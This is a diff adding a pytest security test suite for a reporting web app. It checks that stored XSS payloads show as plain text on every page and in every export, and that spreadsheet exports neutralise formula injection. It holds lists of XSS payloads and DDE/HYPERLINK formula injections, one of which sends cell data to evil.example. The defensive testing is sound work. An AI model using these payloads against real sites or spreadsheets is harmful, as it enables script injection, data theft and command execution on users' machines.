@@ -1,0 +1,611 @@
+"""Hostile input, as an attacker with an account would send it: sweeps rather than single cases.
+
+- Markup and script in every text a user can write, stored through the real services and
+  routes, comes out of every page as text (parsed with an HTML parser: no element, attribute or
+  URL the payload brought) and out of every export as literal text (opened with its reader).
+- Text that a spreadsheet would run as a formula is never a formula in a spreadsheet export.
+- Bad import files are refused with a message that says what and where, and the database is
+  left exactly as it was (a dump of every table before and after).
+- An editor of one organisation reaches nothing of another organisation's, or of another
+  user's, by id: activities, imports, jobs, files, review notes, tokens, through pages and API.
+- Two saves on the same version: exactly one succeeds (the concurrent version is in the load
+  tests; this is the sequential rule).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from html import escape as html_escape
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from bs4 import BeautifulSoup
+from docx import Document
+from fastapi.testclient import TestClient
+from odf.opendocument import load as load_odf
+from odf.table import TableCell
+from odf.text import P
+from openpyxl import load_workbook
+from pypdf import PdfReader
+from sqlalchemy import select
+from sqlmodel import Session
+
+from app.accounts.service import create_api_token
+from app.activities import service as activities
+from app.activities.models import Status
+from app.config import Settings
+from app.exports import service as exports
+from app.main import create_app
+from app.periods import service as periods
+from app.programmes import service as structure
+from app.programmes.models import ActionLine, Activity, Organisation, Result, Theme
+from app.review import service as review
+from tests.factories import (
+    create_user,
+    csrf_from,
+    current_user,
+    open_round,
+    publish,
+    sign_in,
+    update_round,
+)
+from tests.test_board import SLUG
+from tests.test_imports import export_records, write_file
+
+# -- 1. markup and script in every text --------------------------------------------------------
+
+# Each carries its own marker (xss-N) so a page that shows it can be told from one that does not.
+PAYLOADS = [
+    '<script>alert("xss-1")</script>',
+    '"><img src=x onerror=alert("xss-2")>',
+    "'><svg onload=alert('xss-3')>",
+    "javascript:alert('xss-4')",
+    '</textarea></title><script>alert("xss-5")</script>',
+    "{{ 7*191 }} {% if 1 %}xss-6{% endif %} ${7*191}",
+    "<iframe src=\"javascript:alert('xss-7')\"></iframe>",
+    "<a href=\"javascript:alert('xss-8')\">klik xss-8</a>",
+    '" onmouseover="alert(\'xss-9\')" data-x="',
+    "' onfocus='alert(10)' autofocus='xss-10",
+    "<style>body{display:none}</style>xss-11",
+    "\uff1cscript\uff1ealert('xss-12')\uff1c/script\uff1e \u0430lert \u2028\u2029",
+    '<!--xss-13--><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil">',
+    "&lt;script&gt;alert('xss-14')&lt;/script&gt; <details open ontoggle=alert(14)>",
+]
+MARKERS = [f"xss-{number}" for number in range(1, len(PAYLOADS) + 1)]
+# Elements no page of the app writes and some payload brings.
+# (The app draws its charts as inline SVG: an <svg> is only foreign with a handler on it.)
+FOREIGN_ELEMENTS = {"iframe", "base", "math", "object", "embed", "style"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
+
+
+def _squash(text: str) -> str:
+    return re.sub(r"\s+", "", text)
+
+
+def _own_script(src: str) -> bool:
+    """A script file of the app's own: /static/ on the app's own host."""
+    address = urlsplit(src)
+    return (
+        address.scheme in ("", "http")
+        and address.netloc in ("", "testserver")
+        and (address.path.startswith("/static/"))
+    )
+
+
+def injected(html: str) -> list[str]:
+    """What a page holds that a payload brought: elements, event handlers, script URLs."""
+    page = BeautifulSoup(html, "html.parser")
+    found = []
+    for element in page.find_all(True):
+        name = element.name.lower()
+        if name == "script" and not _own_script(element.get("src") or ""):
+            found.append(f"<script> {str(element)[:80]}")
+        if name in FOREIGN_ELEMENTS:
+            found.append(f"<{name}> {str(element)[:80]}")
+        if name == "img" and element.get("src") == "x":
+            found.append(f"<img src=x> {str(element)[:80]}")
+        if name == "meta" and element.get("http-equiv"):
+            found.append(f"<meta http-equiv> {str(element)[:80]}")
+        for attribute, value in element.attrs.items():
+            if attribute.lower().startswith("on"):
+                found.append(f"{name}[{attribute}] {str(element)[:80]}")
+            url = re.sub(r"[\s\x00-\x1f]", "", value).lower() if isinstance(value, str) else ""
+            if attribute.lower() in URL_ATTRIBUTES and url.startswith("javascript:"):
+                found.append(f"{name}[{attribute}={value[:40]}]")
+    # A comment is where <!-- would have hidden the rest of a page.
+    found += [
+        f"comment {comment[:40]}"
+        for comment in re.findall(r"<!--(.*?)-->", html)
+        if "xss" in comment
+    ]
+    return found
+
+
+def shown(html: str) -> set[str]:
+    """The payloads a page shows as text, whole (whitespace aside)."""
+    page = BeautifulSoup(html, "html.parser")
+    text_and_values = page.get_text() + " ".join(
+        str(value)
+        for element in page.find_all(True)
+        for attribute, value in element.attrs.items()
+        if attribute in ("value", "title", "aria-label", "content", "alt", "placeholder")
+    )
+    squashed = _squash(text_and_values)
+    return {
+        marker
+        for marker, payload in zip(MARKERS, PAYLOADS, strict=True)
+        if _squash(payload) in squashed
+    }
+
+
+@dataclass
+class HostileWorld:
+    """A programme whose every user-written text is a payload, and the places they show."""
+
+    app: Any
+    session: Session
+    published_id: int  # written, reviewed, published, corrected and republished
+    open_id: int  # the next round, open, with an import applied
+    activity_ids: list[int]
+    action_line: int
+    result: int
+    editor_email: str
+    admin_email: str
+    jobs: list[int] = field(default_factory=list)
+    texts: dict[str, str] = field(default_factory=dict)  # where → payload, for the record
+
+
+def _payload(number: int) -> str:
+    return PAYLOADS[number % len(PAYLOADS)]
+
+
+def _save(session: Session, world_round: Any, activity_id: int, period_id: int, text: str) -> Any:
+    current = activities.latest_update(session, activity_id=activity_id, period_id=period_id)
+    return activities.record_status(
+        session,
+        activity_id=activity_id,
+        period_id=period_id,
+        status=Status.delayed,
+        explanation=text,
+        author=world_round.editor,
+        based_on_version=current.version if current else None,
+    )
+
+
+def _client(app: Any, email: str) -> TestClient:
+    client = TestClient(app)
+    sign_in(client, email)
+    return client
+
+
+def build_hostile_world(app: Any, session: Session) -> HostileWorld:
+    texts: dict[str, str] = {}
+    admin_email = create_user(session, "admin", name=_payload(0))
+    texts["admin name"] = _payload(0)
+    admin = current_user(session, admin_email)
+    start = update_round(session, name=_payload(1))
+    texts["period name"] = _payload(1)
+    # The editor's display name: shown in histories, review notes, the admin's users page.
+    editor_email = create_user(session, "editor", ("Politie",), name=_payload(2))
+    texts["editor name"] = _payload(2)
+    editor = current_user(session, editor_email)
+    world_round = type(start)(**{**start.__dict__, "editor_email": editor_email, "editor": editor})
+    police = start.activities
+    first = session.get(Activity, police[0])
+    assert first is not None
+    result = session.get(Result, first.result_id)
+    assert result is not None
+    theme = session.get(Theme, result.theme_id)
+    assert theme is not None
+    action_line = session.get(ActionLine, theme.action_line_id)
+    assert action_line is not None
+
+    # Titles and organisation names, through the admin's structure service.
+    for number, (kind, item_id) in enumerate(
+        [("action_line", action_line.id), ("theme", theme.id), ("result", result.id)]
+        + [("activity", activity_id) for activity_id in police[:4]],
+        start=3,
+    ):
+        structure.rename(session, actor=admin, kind=kind, item_id=item_id, title=_payload(number))
+        texts[f"{kind} {item_id} title"] = _payload(number)
+    for number, code in enumerate(("Politie", "KMar"), start=10):
+        organisation = session.scalar(select(Organisation).where(Organisation.code == code))
+        assert organisation is not None, code
+        structure.rename_organisation(
+            session, actor=admin, organisation_id=organisation.id, name=_payload(number)
+        )
+        texts[f"organisation {code}"] = _payload(number)
+    session.commit()
+
+    # Explanations, a send-back and the editor's reply, publication.
+    published_id = start.period_id
+    updates = [
+        _save(session, world_round, activity_id, published_id, _payload(number))
+        for number, activity_id in enumerate(police[: len(PAYLOADS)])
+    ]
+    session.commit()
+    texts.update({f"explanation {u.activity_id}": u.explanation for u in updates[2:]})
+    # Sent back and not approved: not published. Corrected below: published no more.
+    texts["proposal sent back"], texts["proposal corrected"] = (
+        updates[0].explanation,
+        updates[1].explanation,
+    )
+    periods.move_period(session, period_id=published_id, move="review", actor=start.coordinator)
+    review.send_back(
+        session, status_update_id=updates[0].id, reviewer=start.coordinator, comment=_payload(5)
+    )
+    review.reply(session, status_update_id=updates[0].id, author=editor, comment=_payload(6))
+    texts["review comment"], texts["review reply"] = _payload(5), _payload(6)
+    for update in updates[1:]:
+        review.approve(session, status_update_id=update.id, reviewer=start.coordinator)
+    session.commit()
+    publish(session, period_id=published_id, actor=start.coordinator)
+    session.commit()
+
+    # A correction of the published report, with its reason.
+    periods.move_period(
+        session,
+        period_id=published_id,
+        move="correct",
+        actor=start.coordinator,
+        reason=_payload(7),
+    )
+    texts["correction reason"] = _payload(7)
+    corrected = _save(session, world_round, police[1], published_id, _payload(8) + " (correctie)")
+    review.approve(session, status_update_id=corrected.id, reviewer=start.coordinator)
+    texts["correction"] = corrected.explanation
+    session.commit()
+    publish(session, period_id=published_id, actor=start.coordinator)
+    session.commit()
+
+    # The next round, with explanations and an import whose cells are payloads.
+    open_id = open_round(
+        session,
+        name=_payload(9) + " 2023",
+        reference_date="2023-11-01",
+        actor=start.coordinator,
+    )
+    texts["open period name"] = _payload(9) + " 2023"
+    for number, activity_id in enumerate(police[:3], start=11):
+        _save(session, world_round, activity_id, open_id, _payload(number))
+    session.commit()
+    world = HostileWorld(
+        app=app,
+        session=session,
+        published_id=published_id,
+        open_id=open_id,
+        activity_ids=police,
+        action_line=action_line.number,
+        result=result.number,
+        editor_email=editor_email,
+        admin_email=admin_email,
+        texts=texts,
+    )
+    records = export_records(session, open_id)
+    imported = [record for record in records if record["activity_id"] in police[3:8]]
+    assert imported
+    for number, record in enumerate(imported, start=1):
+        record["explanation"] = _payload(number) + " (import)"
+    with _client(app, editor_email) as client:
+        token = csrf_from(client.get(f"/periods/{open_id}/import").text)
+        response = client.post(
+            f"/periods/{open_id}/import",
+            data={"csrftoken": token},
+            files={"file": ("<b>xss</b>.xlsx", write_file("xlsx", imported), "application/zip")},
+            headers={"x-csrftoken": token},
+            follow_redirects=False,
+        )
+        assert response.status_code == 303, response.text[:500]
+        preview_id = int(response.headers["location"].rsplit("/", 1)[-1])
+        page = client.get(f"/jobs/{preview_id}")
+        applied = client.post(
+            f"/jobs/{preview_id}/apply",
+            data={"csrftoken": csrf_from(page.text), "confirmations": "leave"},
+            follow_redirects=False,
+        )
+        assert applied.status_code == 303, applied.text[:500]
+        world.jobs += [preview_id, int(applied.headers["location"].rsplit("/", 1)[-1])]
+        exported = client.post(
+            f"/periods/{published_id}/exports",
+            data={"csrftoken": csrf_from(page.text), "format": "xlsx"},
+            follow_redirects=False,
+        )
+        assert exported.status_code == 303, exported.text[:500]
+        world.jobs.append(int(exported.headers["location"].rsplit("/", 1)[-1]))
+    texts.update({f"import {r['activity_id']}": r["explanation"] for r in imported})
+    return world
+
+
+@pytest.fixture
+def hostile(seeded_settings: Settings) -> Iterator[HostileWorld]:
+    app = create_app(seeded_settings)
+    with Session(app.state.engine, expire_on_commit=False) as session:
+        yield build_hostile_world(app, session)
+    app.state.engine.dispose()
+
+
+def _pages(world: HostileWorld) -> list[tuple[str, str]]:
+    """(who, path) of every page that shows what the world wrote."""
+    first, second = world.activity_ids[:2]
+    published, current = world.published_id, world.open_id
+    return [
+        ("admin", "/"),
+        ("admin", f"/programmes/{SLUG}"),
+        ("admin", f"/programmes/{SLUG}?period={published}"),
+        ("admin", f"/programmes/{SLUG}/action-lines/{world.action_line}"),
+        ("admin", f"/programmes/{SLUG}/results/{world.result}"),
+        ("admin", f"/programmes/{SLUG}/activities"),
+        ("admin", f"/programmes/{SLUG}/activities?period={published}&q=xss"),
+        ("admin", f"/programmes/{SLUG}/summary"),
+        ("admin", f"/activities/{first}"),
+        ("admin", f"/activities/{second}/history"),
+        ("admin", f"/activities/{first}/row"),
+        ("editor", f"/activities/{first}/edit"),
+        ("admin", f"/programmes/{SLUG}/periods"),
+        ("admin", f"/periods/{published}"),
+        ("admin", f"/periods/{current}"),
+        ("admin", f"/periods/{current}/progress"),
+        ("editor", f"/periods/{current}/todo"),
+        ("admin", f"/periods/{current}/review"),
+        ("admin", f"/programmes/{SLUG}/compare?from={published}&to={current}"),
+        ("editor", f"/periods/{current}/import"),
+        *[("editor", f"/jobs/{job_id}") for job_id in world.jobs],
+        ("editor", "/account"),
+        ("admin", "/admin/users"),
+        ("admin", "/admin/audit"),
+        ("admin", f"/admin/programmes/{SLUG}/structure"),
+        ("admin", "/admin/organisations"),
+        ("visitor", "/public/"),
+        ("visitor", f"/public/{SLUG}/"),
+        ("visitor", f"/public/{SLUG}/{published}"),
+        ("visitor", f"/public/{SLUG}/{published}/action-lines/{world.action_line}"),
+        ("visitor", f"/public/{SLUG}/{published}/table"),
+        ("visitor", f"/public/{SLUG}/{published}/data"),
+        ("visitor", "/public/search?q=alert"),
+        ("visitor", "/public/search?q=" + PAYLOADS[1]),
+    ]
+
+
+def test_no_payload_becomes_markup_on_any_page(hostile: HostileWorld) -> None:
+    pages = _pages(hostile)
+    assert len(pages) >= 26
+    problems: dict[str, list[str]] = {}
+    seen: set[str] = set()
+    clients = {
+        "admin": _client(hostile.app, hostile.admin_email),
+        "editor": _client(hostile.app, hostile.editor_email),
+        "visitor": TestClient(hostile.app),
+    }
+    for who, path in pages:
+        response = clients[who].get(path)
+        assert response.status_code == 200, (who, path, response.status_code)
+        assert response.headers["content-type"].startswith("text/html"), path
+        if found := injected(response.text):
+            problems[path] = found
+        on_page = shown(response.text)
+        assert on_page, f"{path} shows none of the payloads"  # the sweep reached the page
+        seen |= on_page
+    assert problems == {}
+    assert seen == set(MARKERS)  # every payload was shown somewhere, as text
+    # Template syntax in the data stays text: nothing evaluated it.
+    assert "1337" not in clients["visitor"].get(f"/public/{SLUG}/{hostile.published_id}/table").text
+
+
+def _docx_text(content: bytes) -> str:
+    document = Document(io.BytesIO(content))
+    parts = [paragraph.text for paragraph in document.paragraphs]
+    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    return "\n".join(parts)
+
+
+def _odf_text(content: bytes) -> str:
+    document = load_odf(io.BytesIO(content))
+    return "\n".join(str(paragraph) for paragraph in document.getElementsByType(P))
+
+
+def _pdf_text(content: bytes) -> str:
+    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
+
+
+def _xlsx_text(content: bytes) -> str:
+    workbook = load_workbook(io.BytesIO(content))
+    return "\n".join(
+        str(cell.value)
+        for sheet in workbook
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    )
+
+
+def _csv_text(content: bytes) -> str:
+    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+    return "\n".join(value for row in rows for value in row)
+
+
+def _json_text(content: bytes) -> str:
+    def strings(value: Any) -> Iterator[str]:
+        if isinstance(value, str):
+            yield value
+        elif isinstance(value, dict):
+            for item in value.values():
+                yield from strings(item)
+        elif isinstance(value, list):
+            for item in value:
+                yield from strings(item)
+
+    return "\n".join(strings(json.loads(content)))
+
+
+READERS = {
+    "docx": _docx_text,
+    "odt": _odf_text,
+    "pdf": _pdf_text,
+    "xlsx": _xlsx_text,
+    "ods": _odf_text,
+    "csv": _csv_text,
+    "json": _json_text,
+}
+
+
+def test_every_export_shows_the_payloads_as_literal_text(hostile: HostileWorld) -> None:
+    assert set(READERS) == set(exports.FORMATS)
+    session = hostile.session
+    titles = [
+        payload
+        for where, payload in hostile.texts.items()
+        if where.startswith(("action_line", "theme", "result", "activity", "organisation"))
+    ]
+    missing = []
+    for period_id, kinds in (
+        (hostile.published_id, ("explanation", "correction")),
+        (hostile.open_id, ("import",)),
+    ):
+        expected = titles + [
+            text for where, text in hostile.texts.items() if where.startswith(kinds)
+        ]
+        for fmt, read in READERS.items():
+            _, _, content = exports.export(
+                session, period_id=period_id, fmt=fmt, organisations=True
+            )
+            # The apostrophe: the spreadsheets' mark of a text that starts like a formula.
+            squashed = _squash(read(content).replace("\x00", "")).replace("'", "")
+            missing += [
+                (period_id, fmt, text)
+                for text in expected
+                if _squash(text).replace("'", "") not in squashed
+                # pypdf maps the glyphs of WeasyPrint's fallback font for fullwidth and
+                # Cyrillic letters back wrongly (pdftotext reads them right); the markup
+                # around them is checked in the other payloads.
+                and not (fmt == "pdf" and "xss-12" in text)
+            ]
+    assert missing == [], "\n".join(map(repr, missing))
+
+
+def test_the_detector_finds_each_payload_where_it_would_be_markup() -> None:
+    """The page sweep is only as good as `injected`: written into a page unescaped, in the
+    places a template puts text, every payload but the two that are harmless as markup (the
+    template syntax and the lookalike letters, checked as text) is found."""
+    contexts = [
+        "<p>{}</p>",
+        '<input value="{}">',
+        "<input value='{}'>",
+        '<a href="{}">x</a>',
+        "<textarea>{}</textarea>",
+    ]
+    for marker, payload in zip(MARKERS, PAYLOADS, strict=True):
+        found = [context for context in contexts if injected(context.format(payload))]
+        if marker in ("xss-6", "xss-12"):
+            assert found == [], marker
+        else:
+            assert found, marker
+        # Escaped, it is text (a URL attribute is never given user text: the sweep checks it).
+        escaped = html_escape(payload)
+        assert all(injected(c.format(escaped)) == [] for c in contexts if "href" not in c), marker
+
+
+# -- 2. no formula in a spreadsheet ----------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_world(app: Any, session: Session) -> tuple[int, TestClient]:
+    """A published period whose explanations, titles, organisation and account names start
+    like formulas (the audit log has them too), written through the services and the API."""
+    admin_email = create_user(session, "admin", name=FORMULAS[0])
+    admin = current_user(session, admin_email)
+    start = update_round(session, name=FORMULAS[3] + " 2022")
+    police = start.activities
+    for number, activity_id in enumerate(police[: len(FORMULAS)]):
+        structure.rename(
+            session, actor=admin, kind="activity", item_id=activity_id, title=FORMULAS[number]
+        )
+    organisation = session.scalar(select(Organisation).where(Organisation.code == "Politie"))
+    assert organisation is not None
+    structure.rename_organisation(
+        session, actor=admin, organisation_id=organisation.id, name=FORMULAS[1]
+    )
+    session.commit()
+    token, secret = create_api_token(session, start.editor, name="formules")
+    session.commit()
+    api = TestClient(app, headers={"Authorization": f"Bearer {secret}"})
+    for number, activity_id in enumerate(police[: len(FORMULAS)]):
+        current = activities.latest_update(
+            session, activity_id=activity_id, period_id=start.period_id
+        )
+        response = api.patch(
+            f"/api/v1/activities/{activity_id}/status",
+            json={
+                "status": "delayed",
+                "explanation": FORMULAS[-1 - number],
+                "based_on_version": current.version if current else None,
+            },
+        )
+        assert response.status_code == 200, response.text
+    periods.move_period(session, period_id=start.period_id, move="review", actor=start.coordinator)
+    publish(session, period_id=start.period_id, actor=start.coordinator)
+    session.commit()
+    return start.period_id, _client(app, admin_email)
+
+
+def _started_like_a_formula(values: list[str]) -> list[str]:
+    return [value for value in values if value.startswith(TRIGGERS)]
+
+
+def test_no_export_has_a_formula_cell(seeded_settings: Settings) -> None:
+    app = create_app(seeded_settings)
+    with Session(app.state.engine, expire_on_commit=False) as session:
+        period_id, admin = _formula_world(app, session)
+        visitor = TestClient(app)
+        files = {
+            fmt: exports.export(session, period_id=period_id, fmt=fmt)[2]
+            for fmt in ("xlsx", "ods", "csv")
+        }
+    files["open data csv"] = visitor.get(f"/public/{SLUG}/{period_id}/data.csv").content
+    files["audit csv"] = admin.get("/admin/audit.csv").content
+    app.state.engine.dispose()
+
+    workbook = load_workbook(io.BytesIO(files["xlsx"]))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    xlsx_texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert _started_like_a_formula(xlsx_texts) == []
+
+    content = zipfile.ZipFile(io.BytesIO(files["ods"])).read("content.xml")
+    assert b"table:formula" not in content
+    document = load_odf(io.BytesIO(files["ods"]))
+    ods_texts = [str(cell) for cell in document.getElementsByType(TableCell)]
+    assert _started_like_a_formula(ods_texts) == []
+
+    csv_texts = {
+        name: [
+            value
+            for row in csv.reader(io.StringIO(files[name].decode("utf-8-sig")))
+            for value in row
+        ]
+        for name in ("csv", "open data csv", "audit csv")
+    }
+    for name, values in csv_texts.items():
+        assert _started_like_a_formula(values) == [], name
+    # Neutralised, not lost: each value is there, behind its apostrophe.
+    tables = {"xlsx": xlsx_texts, "ods": ods_texts, "csv": csv_texts["csv"]}
+    for name, values in {**tables, "open data csv": csv_texts["open data csv"]}.items():
+        for formula in FORMULAS[:4]:
+            assert "'" + formula in values, (name, formula)
+    assert "'" + FORMULAS[3] + " 2022" in csv_texts["audit csv"]  # the period's creation
